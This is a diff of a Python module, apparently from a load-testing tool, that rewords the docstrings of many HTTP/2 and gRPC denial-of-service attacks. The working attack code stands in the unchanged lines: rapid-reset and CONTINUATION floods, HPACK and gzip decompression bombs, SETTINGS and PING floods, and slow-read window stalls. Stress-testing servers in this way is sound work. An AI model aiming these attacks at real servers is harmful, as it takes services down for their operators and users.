@@ -1,4 +1,4 @@
-"""The attacks on HTTP/2, and on gRPC over it. A docstring describes the bytes that its attack sends."""
+"""The attacks on HTTP/2, and on gRPC over HTTP/2. The docstring of each attack describes the bytes that it sends."""
 
 from __future__ import annotations
 
@@ -11,14 +11,14 @@ from loadtest.attacks.attacker import Attacker, Conn, repeated
 from loadtest.attacks.bombs import gzipped_zeros
 from loadtest.attacks.frames import ACK, CONTINUATION, DATA, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY
 
-# Streams that an attack opens on one connection; servers allow 100 to 1000.
+# Number of streams that an attack opens on one connection; servers allow 100 to 1000.
 _STREAMS = 1000
 _FEW = 100
 _CHUNK = 1 << 16
 _HIGHEST_STREAM = 2**31 - 1
 _SLOW_STEP_S = 0.005
 _WINDOWS_A_STEP = 8
-# Streams that get a byte at a time, and the pause before the next byte.
+# Number of streams that get one byte at a time, and the pause between two bytes.
 _DRIBBLED = 20
 _DRIBBLE_S = 0.1
 
@@ -28,7 +28,7 @@ def _streams(first: int = 1) -> Iterator[int]:
 
 
 def _gathered(pieces: Iterator[bytes]) -> Iterator[bytes]:
-    """Joins small pieces into chunks of at least 64 KB."""
+    """Joins small pieces of bytes into chunks of at least 64 KB."""
     chunk = bytearray()
     for piece in pieces:
         chunk += piece
@@ -40,7 +40,7 @@ def _gathered(pieces: Iterator[bytes]) -> Iterator[bytes]:
 
 
 def _waiting(attacker: Attacker, *, window: int = 0, is_large: bool = False) -> tuple[Conn, int]:
-    """Sends requests on many streams, whose answers wait for flow control; returns connection and last stream."""
+    """Sends requests on many streams, whose answers must wait for flow control; returns connection and last stream."""
     conn = attacker.http2((INITIAL_WINDOW_SIZE, window))
     last = 2 * (_FEW if is_large else _STREAMS) - 1
     asked = (attacker.target.request(stream, is_large=is_large) for stream in range(1, last + 1, 2))
@@ -50,48 +50,48 @@ def _waiting(attacker: Attacker, *, window: int = 0, is_large: bool = False) -> 
 
 
 def window_updates(attacker: Attacker) -> None:
-    """WINDOW_UPDATE of the connection beside 1000 answers that wait for their streams' windows."""
+    """WINDOW_UPDATE frames for the connection, while 1000 answers wait for the windows of their streams."""
     conn, _ = _waiting(attacker)
     attacker.flood(repeated(frames.window_update(0, 1)), conn)
 
 
 def stream_window_updates(attacker: Attacker) -> None:
-    """WINDOW_UPDATE of 1 byte for each of 1000 streams with waiting answers, over and over."""
+    """WINDOW_UPDATE frames of 1 byte for each of 1000 streams with waiting answers, again and again."""
     conn, last = _waiting(attacker)
     one_round = b"".join(frames.window_update(stream, 1) for stream in range(1, last + 1, 2))
     attacker.flood(repeated(one_round), conn)
 
 
 def settings_beside_streams(attacker: Attacker) -> None:
-    """SETTINGS that change the window of 1000 streams with waiting answers, to 1 and back."""
+    """SETTINGS frames that change the window of 1000 streams with waiting answers to 1 byte and back."""
     conn, _ = _waiting(attacker)
     pair = frames.settings((INITIAL_WINDOW_SIZE, 1)) + frames.settings((INITIAL_WINDOW_SIZE, 0))
     attacker.flood(repeated(pair), conn)
 
 
 def settings_flood(attacker: Attacker) -> None:
-    """Empty SETTINGS, each of which asks for an ACK."""
+    """Empty SETTINGS frames, each of which the server must acknowledge."""
     attacker.flood(repeated(frames.settings()), attacker.http2())
 
 
 def long_settings(attacker: Attacker) -> None:
-    """SETTINGS of 2730 values each."""
+    """SETTINGS frames with 2730 values each."""
     values = [(INITIAL_WINDOW_SIZE, 65535 + number % 2) for number in range(2730)]
     attacker.flood(repeated(frames.settings(*values)), attacker.http2())
 
 
 def settings_unread(attacker: Attacker) -> None:
-    """Empty SETTINGS whose ACKs are not read."""
+    """Empty SETTINGS frames, whose acknowledgements the client does not read."""
     attacker.flood(repeated(frames.settings()), attacker.http2(receive_bytes=4096), reads=False)
 
 
 def ping_flood(attacker: Attacker) -> None:
-    """PING frames without pause; the answers are read."""
+    """PING frames without pause; the client reads the answers."""
     attacker.flood(repeated(frames.frame(PING, 0, 0, bytes(8))), attacker.http2())
 
 
 def ping_unread(attacker: Attacker) -> None:
-    """PING frames without pause; the answers are not read."""
+    """PING frames without pause; the client does not read the answers."""
     attacker.flood(repeated(frames.frame(PING, 0, 0, bytes(8))), attacker.http2(receive_bytes=4096), reads=False)
 
 
@@ -101,19 +101,19 @@ def ping_acks(attacker: Attacker) -> None:
 
 
 def unknown_frames(attacker: Attacker) -> None:
-    """Empty frames of an unknown type."""
+    """Empty frames of a type that HTTP/2 does not define."""
     attacker.flood(repeated(frames.frame(0x77, 0, 0)), attacker.http2())
 
 
 def empty_data(attacker: Attacker) -> None:
-    """A body of empty DATA frames."""
+    """A request body of empty DATA frames."""
     conn = attacker.http2()
     conn.send([attacker.target.open_request(1)], attacker.end_s)
     attacker.flood(repeated(frames.frame(DATA, 0, 1)), conn)
 
 
 def tiny_data(attacker: Attacker) -> None:
-    """A message with a length prefix of 1 MB, sent in DATA frames of 1 byte."""
+    """A gRPC message that announces 1 MB, sent in DATA frames of 1 byte."""
     conn = attacker.http2()
     prefix = frames.frame(DATA, 0, 1, b"\0" + (1 << 20).to_bytes(4)) if attacker.target.is_grpc else b""
     conn.send([attacker.target.open_request(1) + prefix], attacker.end_s)
@@ -121,14 +121,14 @@ def tiny_data(attacker: Attacker) -> None:
 
 
 def padded_data(attacker: Attacker) -> None:
-    """A body of DATA frames that hold nothing but padding."""
+    """A request body of DATA frames that hold only padding."""
     conn = attacker.http2()
     conn.send([attacker.target.open_request(1)], attacker.end_s)
     attacker.flood(repeated(frames.frame(DATA, 8, 1, b"\xff" + bytes(255))), conn)
 
 
 def priority_flood(attacker: Attacker) -> None:
-    """PRIORITY for streams that were never opened."""
+    """PRIORITY frames for streams that the client never opens."""
     sent = (frames.frame(PRIORITY, 0, stream, bytes([0, 0, 0, 0, 16])) for stream in _streams())
     attacker.flood(_gathered(sent), attacker.http2())
 
@@ -141,41 +141,41 @@ def rapid_reset(attacker: Attacker) -> None:
 
 
 def open_and_reset(attacker: Attacker) -> None:
-    """Requests that are cancelled before their body is sent."""
+    """Requests that the client cancels before it sends their body."""
     target = attacker.target
     sent = (target.open_request(stream) + frames.reset(stream) for stream in _streams())
     attacker.flood(_gathered(sent), attacker.http2())
 
 
 def made_you_reset(attacker: Attacker) -> None:
-    """Requests followed by a WINDOW_UPDATE of 0, which the server must answer with RST_STREAM."""
+    """Requests followed by a WINDOW_UPDATE of 0 bytes, which the server must answer with RST_STREAM."""
     target = attacker.target
     sent = (target.open_request(stream) + frames.window_update(stream, 0) for stream in _streams())
     attacker.flood(_gathered(sent), attacker.http2())
 
 
 def made_you_reset_by_window(attacker: Attacker) -> None:
-    """Requests followed by a WINDOW_UPDATE that overflows the stream's window."""
+    """Requests followed by a WINDOW_UPDATE that overflows the window of their stream."""
     target = attacker.target
     sent = (target.open_request(s) + frames.window_update(s, frames.MAX_WINDOW) for s in _streams())
     attacker.flood(_gathered(sent), attacker.http2())
 
 
 def made_you_reset_by_data(attacker: Attacker) -> None:
-    """Complete requests, each followed by more DATA on its closed stream."""
+    """Complete requests, each followed by more DATA frames on its closed stream."""
     sent = (attacker.target.request(stream) + frames.frame(DATA, 0, stream, b"x") for stream in _streams())
     attacker.flood(_gathered(sent), attacker.http2())
 
 
 def requests_flood(attacker: Attacker) -> None:
-    """Small requests, as many as the server accepts, with large windows; answers are read."""
+    """Small requests, as many as the server accepts, with large windows; the client reads the answers."""
     conn = attacker.http2((INITIAL_WINDOW_SIZE, frames.MAX_WINDOW))
     conn.send([frames.window_update(0, 1 << 30)], attacker.end_s)
     attacker.flood(_gathered(attacker.target.request(stream) for stream in _streams()), conn)
 
 
 def continuation_flood(attacker: Attacker) -> None:
-    """A header block that never ends, in CONTINUATION frames of 1 KB."""
+    """A header block that never ends, in CONTINUATION frames of 1 KB each."""
     conn = attacker.http2()
     conn.send([frames.frame(HEADERS, 0, 1, attacker.target.fields())], attacker.end_s)
     attacker.flood(repeated(frames.frame(CONTINUATION, 0, 1, frames.field(b"a", b"b" * 1000))), conn)
@@ -189,7 +189,7 @@ def empty_continuation(attacker: Attacker) -> None:
 
 
 def _header_bomb(attacker: Attacker, first: bytes, more: bytes) -> None:
-    """Adds a header field to the HPACK table with the first request, and repeats it in every further request."""
+    """Adds a header field to the HPACK table in the first request, and refers to it in every further request."""
     target = attacker.target
     opening = frames.frame(HEADERS, END_HEADERS, 1, target.fields() + first) + frames.reset(1)
     sent = (
@@ -200,24 +200,24 @@ def _header_bomb(attacker: Attacker, first: bytes, more: bytes) -> None:
 
 
 def hpack_index_bomb(attacker: Attacker) -> None:
-    """A field of 3.9 KB in the HPACK table, and requests that each refer to it by 12,000 bytes, one byte each."""
+    """A header field of 3.9 KB in the HPACK table, and requests that each refer to it 12,000 times, by one byte."""
     _header_bomb(attacker, frames.field(b"x", b"y" * 3900, first=0x40), b"\xbe" * 12_000)
 
 
 def hpack_huffman(attacker: Attacker) -> None:
-    """Huffman-coded values of 12 KB that decode to 19 KB."""
+    """Header values of 12 KB in Huffman code that decode to 19 KB."""
     # In HPACK's Huffman code 00000 is the letter "0", so zero bytes decode to one letter for each 5 bits.
     value = frames.integer(1, 7) + b"x" + frames.integer(12_000, 7, 0x80) + bytes(12_000)
     _header_bomb(attacker, b"", b"\x00" + value)
 
 
 def many_fields(attacker: Attacker) -> None:
-    """Requests with 3,000 header fields each, all with empty values."""
+    """Requests with 3,000 header fields each, all of which are empty."""
     _header_bomb(attacker, b"", frames.field(b"a", b"") * 3000)
 
 
 def table_resizes(attacker: Attacker) -> None:
-    """Header blocks that resize HPACK's table thousands of times."""
+    """Header blocks that resize the HPACK table thousands of times."""
     target = attacker.target
     resizes = (b"\x20" + frames.integer(4096, 5, 0x20)) * 3000
     sent = (
@@ -228,7 +228,7 @@ def table_resizes(attacker: Attacker) -> None:
 
 
 def unread_answers(attacker: Attacker) -> None:
-    """Answers of megabytes on many streams, with windows large enough for all; the client reads nothing."""
+    """Requests for answers of megabytes on many streams, with large windows; the client reads nothing."""
     conn = attacker.http2((INITIAL_WINDOW_SIZE, frames.MAX_WINDOW), receive_bytes=4096)
     conn.send([frames.window_update(0, 1 << 30)], attacker.end_s)
     asked = (attacker.target.request(stream, is_large=True) for stream in itertools.islice(_streams(), _FEW))
@@ -236,7 +236,7 @@ def unread_answers(attacker: Attacker) -> None:
 
 
 def slow_read(attacker: Attacker) -> None:
-    """Answers of megabytes on 100 streams; the client opens their windows by 1 byte, one stream after another."""
+    """Requests for answers of megabytes on 100 streams; the client opens one window after another by 1 byte."""
     conn, last = _waiting(attacker, is_large=True)
     streams = itertools.cycle(range(1, last + 1, 2))
     grants = (
@@ -248,20 +248,20 @@ def slow_read(attacker: Attacker) -> None:
 
 
 def byte_windows(attacker: Attacker) -> None:
-    """Answers of megabytes use up the connection's window; then come WINDOW_UPDATEs of 1 byte, as fast as possible."""
+    """Requests for answers of megabytes, which use up the connection's window; then WINDOW_UPDATEs of 1 byte."""
     conn, _ = _waiting(attacker, window=frames.MAX_WINDOW, is_large=True)
     attacker.flood(repeated(frames.window_update(0, 1)), conn)
 
 
 def zero_window(attacker: Attacker) -> None:
-    """Answers of megabytes on 100 streams and windows of 0: nothing can be sent."""
+    """Requests for answers of megabytes on 100 streams whose windows are 0, so the server can send nothing."""
     conn, _ = _waiting(attacker, is_large=True)
     conn.wait(attacker.end_s)
     conn.last_word()
 
 
 def half_requests(attacker: Attacker) -> None:
-    """Requests on 1000 streams that are begun and never ended, on one connection."""
+    """Requests on 1000 streams of one connection that the client begins and never ends."""
     conn = attacker.http2()
     begun = frames.frame(DATA, 0, 0, b"\0" + (1 << 20).to_bytes(4) + bytes(1000))
     sent = (
@@ -272,7 +272,7 @@ def half_requests(attacker: Attacker) -> None:
 
 
 def slow_body(attacker: Attacker) -> None:
-    """Messages on 20 streams, each of which gets a further byte ten times a second and is never whole."""
+    """Messages on 20 streams that never become complete: each gets one more byte ten times a second."""
     conn = attacker.http2()
     conn.unfinished = frozenset(range(1, 2 * _DRIBBLED, 2))
     prefix = b"\0" + (1 << 20).to_bytes(4)
@@ -290,7 +290,7 @@ def slow_body(attacker: Attacker) -> None:
 
 
 def no_preface(attacker: Attacker) -> None:
-    """300 connections on which nothing is sent, and 300 with half a preface."""
+    """300 connections on which the client sends nothing, and 300 on which it sends half of the HTTP/2 preface."""
     conns = [conn for _ in range(600) if not attacker.is_over and (conn := attacker.connect(is_raw=True))]
     for conn in conns[::2]:
         conn.send([frames.PREFACE[:10]], attacker.end_s)
@@ -300,12 +300,12 @@ def no_preface(attacker: Attacker) -> None:
 
 
 def wrong_preface(attacker: Attacker) -> None:
-    """HTTP/1.1 on the port of HTTP/2."""
+    """HTTP/1.1 requests on the port for HTTP/2."""
     attacker.flood(repeated(b"GET / HTTP/1.1\r\nhost: x\r\n\r\n"))
 
 
 def many_messages(attacker: Attacker) -> None:
-    """A unary call with a million empty gRPC messages."""
+    """A unary gRPC call with a million empty messages."""
     conn = attacker.http2()
     conn.send([attacker.target.open_request(1)], attacker.end_s)
     attacker.flood(repeated(frames.frame(DATA, 0, 1, bytes(5) * 3000)), conn)
@@ -315,7 +315,7 @@ _REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
 
 
 def _gzip_bombs(attacker: Attacker, begun: bytes = b"", path: str = "") -> None:
-    """Calls a method on one stream after another; `begun` precedes a message that inflates to 60 MB."""
+    """Calls a gRPC method on one stream after another with a message that inflates to 60 MB, sent after `begun`."""
     bomb = gzipped_zeros(60)
     body = begun + b"\1" + len(bomb).to_bytes(4) + bomb
     parts = [body[at : at + 16384] for at in range(0, len(body), 16384)]
@@ -327,22 +327,22 @@ def _gzip_bombs(attacker: Attacker, begun: bytes = b"", path: str = "") -> None:
             sent = [frames.frame(HEADERS, END_HEADERS, stream, head)]
             sent += [frames.frame(DATA, 0, stream, part) for part in parts[:-1]]
             yield b"".join([*sent, frames.frame(DATA, 1, stream, parts[-1])])
-            # Reads answers and WINDOW_UPDATEs for a moment, so that the windows are open for the next message.
+            # Read answers and WINDOW_UPDATEs for a moment, so that the windows are open for the next message.
             conn.wait(min(time.monotonic() + 0.02, attacker.end_s))
 
     attacker.flood(asked(), conn)
 
 
 def gzip_messages(attacker: Attacker) -> None:
-    """Messages of 60 KB that inflate to 60 MB each, on one stream after another."""
+    """gRPC messages of 60 KB that inflate to 60 MB each, on one stream after another."""
     _gzip_bombs(attacker)
 
 
 def second_gzip_messages(attacker: Attacker) -> None:
-    """Messages that inflate to 60 MB, each as the second one of a unary call; the first is empty and not compressed."""
+    """gRPC messages that inflate to 60 MB, each as the second message of a unary call; the first one is empty."""
     _gzip_bombs(attacker, bytes(5))
 
 
 def stream_gzip_messages(attacker: Attacker) -> None:
-    """Messages that inflate to 60 MB, each as the second one of a call of gRPC's reflection, which accepts many."""
+    """gRPC messages that inflate to 60 MB, each as the second message of a call of gRPC's reflection service."""
     _gzip_bombs(attacker, bytes(5), _REFLECTION)
